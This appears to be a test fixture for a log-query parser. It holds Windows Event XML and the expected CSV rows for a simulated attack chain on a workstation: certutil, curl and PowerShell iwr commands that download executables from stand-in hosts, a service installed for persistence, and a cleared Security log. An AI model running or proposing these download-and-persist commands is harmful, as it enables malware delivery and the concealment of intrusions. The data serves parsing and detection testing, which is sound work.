# Windows Event XML, indented, in one Events element: the rows that every shape of these events gives
--- query
* | fields _messagetime, EventID, Channel, Computer, Provider_Name, EventRecordID, host, user, process_name, process_path, process_id, command_line, parent_process_name, file_path, src_ip, dst_ip, dst_port, dns_query, script_text, hash_sha256, IntegrityLevel, TargetUserName, LogonType, SubjectUserName, SubjectLogonId, ServiceName, DestinationHostname, Initiated
--- input events.xml
<?xml version="1.0" encoding="utf-8" standalone="yes"?>
<Events>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>
      <EventID>1</EventID>
      <Version>5</Version>
      <Level>4</Level>
      <Task>1</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8000000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:01.0000000Z"/>
      <EventRecordID>74174</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Microsoft-Windows-Sysmon/Operational</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security UserID="S-1-5-18"/>
    </System>
    <EventData>
      <Data Name="RuleName">-</Data>
      <Data Name="UtcTime">2026-11-24 08:00:01.000</Data>
      <Data Name="ProcessGuid">{5AA13A44-0C90-68FC-0001-000000004002}</Data>
      <Data Name="ProcessId">5320</Data>
      <Data Name="Image">C:\Windows\System32\certutil.exe</Data>
      <Data Name="OriginalFileName">CertUtil.exe</Data>
      <Data Name="CommandLine">certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe "C:\Users\Public\update &amp; go.exe"</Data>
      <Data Name="CurrentDirectory">C:\Users\amara\</Data>
      <Data Name="User">CORP\amara</Data>
      <Data Name="LogonGuid">{5AA13A44-0C90-68FC-0002-000000004002}</Data>
      <Data Name="LogonId">0x3e7a1</Data>
      <Data Name="TerminalSessionId">1</Data>
      <Data Name="IntegrityLevel">Medium</Data>
      <Data Name="Hashes">MD5=5D41402ABC4B2A76B9719D911017C592,SHA256=9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744</Data>
      <Data Name="ParentProcessGuid">{5AA13A44-0C90-68FC-0003-000000004002}</Data>
      <Data Name="ParentProcessId">4100</Data>
      <Data Name="ParentImage">C:\Windows\System32\cmd.exe</Data>
      <Data Name="ParentCommandLine">"C:\Windows\system32\cmd.exe" /c stage.bat</Data>
      <Data Name="ParentUser">CORP\amara</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>
      <EventID>22</EventID>
      <Version>5</Version>
      <Level>4</Level>
      <Task>22</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8000000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:02.0000000Z"/>
      <EventRecordID>74175</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Microsoft-Windows-Sysmon/Operational</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security UserID="S-1-5-18"/>
    </System>
    <EventData>
      <Data Name="RuleName">-</Data>
      <Data Name="UtcTime">2026-11-24 08:00:02.000</Data>
      <Data Name="ProcessGuid">{5AA13A44-0C90-68FC-0001-000000004002}</Data>
      <Data Name="ProcessId">5320</Data>
      <Data Name="QueryName">files.cdn-stage.example</Data>
      <Data Name="QueryStatus">0</Data>
      <Data Name="QueryResults">::ffff:203.0.113.20;</Data>
      <Data Name="Image">C:\Windows\System32\certutil.exe</Data>
      <Data Name="User">CORP\amara</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>
      <EventID>3</EventID>
      <Version>5</Version>
      <Level>4</Level>
      <Task>3</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8000000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:03.0000000Z"/>
      <EventRecordID>74176</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Microsoft-Windows-Sysmon/Operational</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security UserID="S-1-5-18"/>
    </System>
    <EventData>
      <Data Name="RuleName">-</Data>
      <Data Name="UtcTime">2026-11-24 08:00:03.000</Data>
      <Data Name="ProcessGuid">{5AA13A44-0C90-68FC-0001-000000004002}</Data>
      <Data Name="ProcessId">5320</Data>
      <Data Name="Image">C:\Windows\System32\certutil.exe</Data>
      <Data Name="User">CORP\amara</Data>
      <Data Name="Protocol">tcp</Data>
      <Data Name="Initiated">true</Data>
      <Data Name="SourceIsIpv6">false</Data>
      <Data Name="SourceIp">192.0.2.5</Data>
      <Data Name="SourceHostname">ws5.corp.example</Data>
      <Data Name="SourcePort">50123</Data>
      <Data Name="DestinationIsIpv6">false</Data>
      <Data Name="DestinationIp">203.0.113.20</Data>
      <Data Name="DestinationHostname">files.cdn-stage.example</Data>
      <Data Name="DestinationPort">80</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/>
      <EventID>11</EventID>
      <Version>5</Version>
      <Level>4</Level>
      <Task>11</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8000000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:04.0000000Z"/>
      <EventRecordID>74177</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Microsoft-Windows-Sysmon/Operational</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security UserID="S-1-5-18"/>
    </System>
    <EventData>
      <Data Name="RuleName">-</Data>
      <Data Name="UtcTime">2026-11-24 08:00:04.000</Data>
      <Data Name="ProcessGuid">{5AA13A44-0C90-68FC-0001-000000004002}</Data>
      <Data Name="ProcessId">5320</Data>
      <Data Name="Image">C:\Windows\System32\certutil.exe</Data>
      <Data Name="TargetFilename">C:\Users\Public\update &amp; go.exe</Data>
      <Data Name="CreationUtcTime">2026-11-24 08:00:04.000</Data>
      <Data Name="User">CORP\amara</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"/>
      <EventID>4688</EventID>
      <Version>2</Version>
      <Level>4</Level>
      <Task>13312</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8020000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:05.0000000Z"/>
      <EventRecordID>74178</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Security</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security/>
    </System>
    <EventData>
      <Data Name="SubjectUserSid">S-1-5-21-1004336348-1177238915-682003330-1107</Data>
      <Data Name="SubjectUserName">amara</Data>
      <Data Name="SubjectDomainName">CORP</Data>
      <Data Name="SubjectLogonId">0x3e7a1</Data>
      <Data Name="NewProcessId">0x1a2c</Data>
      <Data Name="NewProcessName">C:\Windows\System32\curl.exe</Data>
      <Data Name="TokenElevationType">%%1938</Data>
      <Data Name="ProcessId">0x1004</Data>
      <Data Name="CommandLine">curl.exe -o C:\Users\Public\größe.bin https://paste.example/r/7</Data>
      <Data Name="TargetUserSid">S-1-0-0</Data>
      <Data Name="TargetUserName">-</Data>
      <Data Name="TargetDomainName">-</Data>
      <Data Name="TargetLogonId">0x0</Data>
      <Data Name="ParentProcessName">C:\Windows\System32\cmd.exe</Data>
      <Data Name="MandatoryLabel">S-1-16-8192</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"/>
      <EventID>4624</EventID>
      <Version>2</Version>
      <Level>4</Level>
      <Task>12544</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8020000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:06.0000000Z"/>
      <EventRecordID>74179</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Security</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security/>
    </System>
    <EventData>
      <Data Name="SubjectUserSid">S-1-0-0</Data>
      <Data Name="SubjectUserName">-</Data>
      <Data Name="SubjectDomainName">-</Data>
      <Data Name="SubjectLogonId">0x0</Data>
      <Data Name="TargetUserSid">S-1-5-21-1004336348-1177238915-682003330-1107</Data>
      <Data Name="TargetUserName">amara</Data>
      <Data Name="TargetDomainName">CORP</Data>
      <Data Name="TargetLogonId">0x51f02</Data>
      <Data Name="LogonType">3</Data>
      <Data Name="LogonProcessName">NtLmSsp </Data>
      <Data Name="AuthenticationPackageName">NTLM</Data>
      <Data Name="WorkstationName">WS9</Data>
      <Data Name="LogonGuid">{00000000-0000-0000-0000-000000000000}</Data>
      <Data Name="TransmittedServices">-</Data>
      <Data Name="LmPackageName">NTLM V2</Data>
      <Data Name="KeyLength">128</Data>
      <Data Name="ProcessId">0x0</Data>
      <Data Name="ProcessName">-</Data>
      <Data Name="IpAddress">192.0.2.9</Data>
      <Data Name="IpPort">49771</Data>
      <Data Name="ImpersonationLevel">%%1833</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-PowerShell" Guid="{a0c1853b-5c40-4b15-8766-3cf1c58f985a}"/>
      <EventID>4104</EventID>
      <Version>1</Version>
      <Level>4</Level>
      <Task>2</Task>
      <Opcode>0</Opcode>
      <Keywords>0x0</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:07.0000000Z"/>
      <EventRecordID>74180</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Microsoft-Windows-PowerShell/Operational</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security UserID="S-1-5-21-1004336348-1177238915-682003330-1107"/>
    </System>
    <EventData>
      <Data Name="MessageNumber">1</Data>
      <Data Name="MessageTotal">1</Data>
      <Data Name="ScriptBlockText">if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\a.dll }
# "done"</Data>
      <Data Name="ScriptBlockId">0d7f3a1e-55b1-4f0e-9a55-0c1f6c3b8a11</Data>
      <Data Name="Path">C:\Users\amara\stage.ps1</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Service Control Manager" Guid="{555908d1-a6d7-4695-8e1e-26931d2012f4}"/>
      <EventID Qualifiers="16384">7045</EventID>
      <Version>0</Version>
      <Level>4</Level>
      <Task>0</Task>
      <Opcode>0</Opcode>
      <Keywords>0x8080000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:08.0000000Z"/>
      <EventRecordID>74181</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>System</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security UserID="S-1-5-21-1004336348-1177238915-682003330-1107"/>
    </System>
    <EventData>
      <Data Name="ServiceName">Updater</Data>
      <Data Name="ImagePath">"C:\Users\Public\update &amp; go.exe" /svc</Data>
      <Data Name="ServiceType">user mode service</Data>
      <Data Name="StartType">auto start</Data>
      <Data Name="AccountName">LocalSystem</Data>
    </EventData>
  </Event>
  <Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'>
    <System>
      <Provider Name="Microsoft-Windows-Eventlog" Guid="{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"/>
      <EventID>1102</EventID>
      <Version>0</Version>
      <Level>4</Level>
      <Task>104</Task>
      <Opcode>0</Opcode>
      <Keywords>0x4020000000000000</Keywords>
      <TimeCreated SystemTime="2026-11-24T08:00:09.0000000Z"/>
      <EventRecordID>74182</EventRecordID>
      <Correlation/>
      <Execution ProcessID="3308" ThreadID="4008"/>
      <Channel>Security</Channel>
      <Computer>ws5.corp.example</Computer>
      <Security/>
    </System>
    <UserData>
      <LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog">
        <SubjectUserSid>S-1-5-21-1004336348-1177238915-682003330-1107</SubjectUserSid>
        <SubjectUserName>amara</SubjectUserName>
        <SubjectDomainName>CORP</SubjectDomainName>
        <SubjectLogonId>0x3e7a1</SubjectLogonId>
      </LogFileCleared>
    </UserData>
  </Event>
</Events>
--- output csv
_messagetime,EventID,Channel,Computer,Provider_Name,EventRecordID,host,user,process_name,process_path,process_id,command_line,parent_process_name,file_path,src_ip,dst_ip,dst_port,dns_query,script_text,hash_sha256,IntegrityLevel,TargetUserName,LogonType,SubjectUserName,SubjectLogonId,ServiceName,DestinationHostname,Initiated
1795507201000,1,Microsoft-Windows-Sysmon/Operational,ws5.corp.example,Microsoft-Windows-Sysmon,74174,ws5.corp.example,CORP\amara,certutil.exe,C:\Windows\System32\certutil.exe,5320,"certutil.exe -urlcache -split -f http://files.cdn-stage.example/up/update.exe ""C:\Users\Public\update & go.exe""",cmd.exe,,,,,,,9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08,Medium,,,,,,,
1795507202000,22,Microsoft-Windows-Sysmon/Operational,ws5.corp.example,Microsoft-Windows-Sysmon,74175,ws5.corp.example,CORP\amara,certutil.exe,C:\Windows\System32\certutil.exe,5320,,,,,,,files.cdn-stage.example,,,,,,,,,,
1795507203000,3,Microsoft-Windows-Sysmon/Operational,ws5.corp.example,Microsoft-Windows-Sysmon,74176,ws5.corp.example,CORP\amara,certutil.exe,C:\Windows\System32\certutil.exe,5320,,,,192.0.2.5,203.0.113.20,80,,,,,,,,,,files.cdn-stage.example,true
1795507204000,11,Microsoft-Windows-Sysmon/Operational,ws5.corp.example,Microsoft-Windows-Sysmon,74177,ws5.corp.example,CORP\amara,certutil.exe,C:\Windows\System32\certutil.exe,5320,,,C:\Users\Public\update & go.exe,,,,,,,,,,,,,,
1795507205000,4688,Security,ws5.corp.example,Microsoft-Windows-Security-Auditing,74178,ws5.corp.example,amara,curl.exe,C:\Windows\System32\curl.exe,6700,curl.exe -o C:\Users\Public\größe.bin https://paste.example/r/7,cmd.exe,,,,,,,,,-,,amara,0x3e7a1,,,
1795507206000,4624,Security,ws5.corp.example,Microsoft-Windows-Security-Auditing,74179,ws5.corp.example,amara,,,0,,,,192.0.2.9,,,,,,,amara,3,-,0x0,,,
1795507207000,4104,Microsoft-Windows-PowerShell/Operational,ws5.corp.example,Microsoft-Windows-PowerShell,74180,ws5.corp.example,,,,,,,C:\Users\amara\stage.ps1,,,,,"if (1 -lt 2) { iwr 'https://paste.example/r/8' -OutFile $env:TEMP\a.dll }
# ""done""",,,,,,,,,
1795507208000,7045,System,ws5.corp.example,Service Control Manager,74181,ws5.corp.example,LocalSystem,,,,,,"""C:\Users\Public\update & go.exe"" /svc",,,,,,,,,,,,Updater,,
1795507209000,1102,Security,ws5.corp.example,Microsoft-Windows-Eventlog,74182,ws5.corp.example,amara,,,,,,,,,,,,,,,,amara,0x3e7a1,,,
